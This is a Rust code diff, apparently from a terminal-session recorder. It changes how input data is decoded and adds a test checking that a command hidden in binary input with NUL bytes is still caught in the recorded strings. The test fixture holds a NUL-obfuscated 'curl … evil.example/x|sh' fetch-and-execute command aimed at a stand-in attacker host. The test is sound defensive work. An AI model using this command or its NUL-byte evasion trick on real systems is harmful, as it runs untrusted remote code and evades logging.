@@ -699,7 +699,11 @@ impl Flow {
             Stream::Output => "output",
             Stream::Input => "input",
         };
-        let (text, binary) = match self.carry.decode(data) {
+        let decoded = match stream {
+            Stream::Output => self.carry.decode(data),
+            Stream::Input => self.carry.decode_input(data),
+        };
+        let (text, binary) = match decoded {
             Data::Text(text) => (text, None),
             Data::Binary {
                 text,
@@ -1886,6 +1890,35 @@ mod tests {
         // Input not recorded: not even its size.
         let (_, events) = record(false, 1 << 20, session).await;
         assert_eq!(binaries(&events), [(Stream::Output, 1024)]);
+    }
+
+    #[tokio::test]
+    async fn nul_bytes_a_shell_drops_cannot_hide_a_command_in_binary_input() {
+        // Piped to a shell with no terminal: it drops the NUL bytes and
+        // runs `curl … | sh`; split by them into short runs, and the
+        // packet made binary by a byte that is not UTF-8.
+        let sent = b"#\xff\0\ncur\0l -s\0 evil.ex\0ample/x\0|sh >/dev/null\n";
+        let session = async |tap: &ChannelTap| {
+            tap.shell();
+            tap.input(&b(sent)).await;
+            tap.exit(0);
+        };
+        let (_, events) = record(true, 1 << 20, session).await;
+        let strings: String = events
+            .iter()
+            .filter_map(|e| match &e.kind {
+                EventKind::Binary {
+                    stream: Stream::Input,
+                    strings,
+                    ..
+                } => Some(strings.as_str()),
+                _ => None,
+            })
+            .collect();
+        assert!(
+            strings.contains("curl -s evil.example/x|sh >/dev/null"),
+            "{strings:?}"
+        );
     }
 
     #[tokio::test]
